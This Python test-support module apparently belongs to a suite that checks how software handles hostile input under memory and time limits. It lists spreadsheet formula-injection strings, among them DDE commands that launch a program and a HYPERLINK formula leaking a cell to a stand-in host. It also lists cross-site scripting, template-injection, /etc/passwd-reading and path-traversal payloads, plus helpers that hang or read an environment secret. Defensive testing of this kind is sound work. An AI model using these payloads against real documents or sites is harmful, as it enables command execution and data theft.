"""What was made to harm: texts of strangers, and what files take while they are judged."""

import os
import time
from collections.abc import Iterator
from contextlib import contextmanager

from benchmarks.sampling import MB, Peak

MAX_MB = 200
MAX_SECONDS = 2
_CLOCK = "ATTACK_CASES" in os.environ  # `make attacks`: nothing in the suite depends on a clock


@contextmanager
def bounded() -> Iterator[None]:
    """Within 200 MB, and in `make attacks` within 2 seconds of the processor.

    Memory is that of the process, so that what a library takes outside of Python counts.
    """
    begun, peak = os.times(), Peak()
    peak.start()
    yield
    took = sum(os.times()[:4]) - sum(begun[:4])  # of children as well
    held = max(0.0, (peak.stop() or 0.0) / MB)
    assert held < MAX_MB
    assert not _CLOCK or took < MAX_SECONDS


FORMULAS = (
    *("=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://elsewhere.example/?"&A1)', "+1+cmd|' /C calc'!A0"),
    *("-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", '=1+1","=2+2', "=1\n=2"),
)
MARKUP = (
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "]]>",
    "</title><img src=x onerror=alert(1)>",
    "\"'`${alert(1)}",
    "{{ 7*7 }}{0}%s",
    "$x^{$ \\frac \\input{/etc/passwd}",
    "&lt;&#0;&amp",
    "\u202e\u2028\u2029\ufeff",
    "\"\"\"\n'''\\",
    "/etc/passwd\0.png",
    "../../../x",
)


def sleeper(_content: bytes) -> bytes:
    """What a limited process must end; here, so that it imports little."""
    time.sleep(600)
    return b""


def secret(_content: bytes) -> bytes:
    """A setting of the process that started this one, if it is known here."""
    return os.environ.get("SECRET", "none").encode()
